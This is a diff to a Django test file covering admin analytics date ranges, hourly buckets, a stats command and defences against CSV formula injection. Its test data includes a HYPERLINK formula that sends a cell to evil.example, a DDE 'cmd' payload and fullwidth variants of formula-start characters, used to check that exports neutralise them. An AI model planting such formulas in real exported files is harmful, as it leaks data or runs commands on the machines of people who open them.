@@ -275,6 +275,10 @@ def test_analytics_range_filter_changes_the_numbers(admin_client: Client, recent
         ({"range": "custom", "start": "yesterday", "end": "2025-02-01"}, "Enter a valid date"),
         ({"range": "custom", "start": "2020-01-01", "end": "2025-01-01"}, "at most 366 days"),
         ({"range": "forever"}, "Select a valid choice"),
+        # Issue 20: the last days a date can hold raised OverflowError (a 500) computing the end.
+        ({"range": "custom", "start": "9999-12-30", "end": "9999-12-31"}, "starts in the future"),
+        ({"range": "custom", "start": "9999-12-31", "end": "9999-12-31"}, "starts in the future"),
+        ({"range": "custom", "start": "2025-01-01", "end": "9999-12-31"}, "at most 366 days"),
     ],
 )
 def test_analytics_bad_range_is_a_form_error(
@@ -286,6 +290,34 @@ def test_analytics_bad_range_is_a_form_error(
     html = response.content.decode()
     assert 'class="errornote' in html and message in html
     assert "pq-tile" not in html
+
+
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"range": "30d", "bucket": "hour"},
+        {"range": "custom", "start": "2025-01-01", "end": "2025-01-31", "bucket": "hour"},
+    ],
+)
+def test_analytics_hourly_buckets_over_a_month_are_drawn(
+    admin_client: Client, recent_log: None, params: dict[str, str]
+) -> None:
+    """The form allows hourly buckets up to 31 days (744 of them): the time axis found no label
+    step for more than 648 (StopIteration, a 500)."""
+    response = admin_client.get(ANALYTICS, params)
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert 'class="errornote' not in html
+    assert 5 <= html.count('class="pq-tick" x=') <= 200  # a few labels per chart, not 744 each
+
+
+def test_analytics_range_at_the_first_days_a_date_holds(admin_client: Client, recent_log: None) -> None:
+    """The other end of the calendar: a range in year 1 is a valid, empty range, not a 500."""
+    response = admin_client.get(ANALYTICS, {"range": "custom", "start": "0001-01-01", "end": "0001-01-02"})
+
+    assert response.status_code == 200
+    assert _kpis(response.content.decode())["Requests"] == "0"
 
 
 def test_analytics_permissions(client: Client, db: None) -> None:
@@ -358,6 +390,14 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?"&C2,"x")'
         ("+SUM(A1:A9)", "-2+3"),
         ("@SUM(A1:A9)", "\t=cmd|' /C calc'!A0"),
         ("-topic", "\r=1+1"),
+        # Issue 20: a formula after blanks, or in its fullwidth or separator forms, still runs.
+        ("\n=1+1", " =1+1"),
+        ("\u3000=1+1", "\xa0 +SUM(A1:A9)"),
+        ("\uff1d1+1", "\uff0bSUM(A1:A9)"),
+        ("\uff0d2+3", "\uff20SUM(A1:A9)"),
+        ("|cmd", ";=1+1"),
+        ("\uff5ccmd", "\uff1b=1+1"),
+        ("\n\t @SUM(A1:A9)", "\r\n-2+3"),
     ],
 )
 def test_csv_export_cells_are_never_formulas(client: Client, db: None, topic: str, text: str) -> None:
@@ -383,7 +423,21 @@ def test_csv_export_cells_are_never_formulas(client: Client, db: None, topic: st
     assert (cells["topic"], cells["text"]) == ("'" + topic, "'" + text)
     assert cells["feedback"] == "-1" and cells["status"] == "error"
     for cell in row:
-        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-1"
+        assert not cell.lstrip().startswith(FORMULA_START) or cell == "-1"
+        assert not cell.startswith(("\t", "\r", "\n"))
+
+
+#: Written out here, not read from quotes.admin: OWASP's characters and their fullwidth forms.
+FORMULA_START = ("=", "+", "-", "@", "|", ";", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c", "\uff1b")
+
+
+@pytest.mark.parametrize("topic", ["rain", " rain", "a=b", "e-mail", "", "  ", "2+2", "\u3000rain"])
+def test_csv_export_leaves_plain_text_as_it_is(admin_client: Client, db: None, topic: str) -> None:
+    log(Persona.objects.get(slug="alan-watts"), timezone.now(), topic=topic)
+
+    [header, row] = _csv(admin_client.get(EXPORT))
+
+    assert dict(zip(header, row, strict=True))["topic"] == topic
 
 
 def test_csv_export_with_a_bad_filter_goes_back_to_the_changelist(admin_client: Client, db: None) -> None:
@@ -456,3 +510,10 @@ def test_gateway_stats_command_json(recent_log: None) -> None:
 def test_gateway_stats_command_rejects_a_bad_span(db: None) -> None:
     with pytest.raises(CommandError, match="is not a span"):
         call_command("gateway_stats", "--since", "soon")
+
+
+@pytest.mark.parametrize("since", ["1000000d", "99999999999d", "9999999999999999999999h"])
+def test_gateway_stats_command_rejects_a_span_past_the_calendar(db: None, since: str) -> None:
+    """A span reaching back before year 1, or past what a timedelta holds, was an OverflowError."""
+    with pytest.raises(CommandError, match="reaches back further than"):
+        call_command("gateway_stats", "--since", since, stdout=io.StringIO())
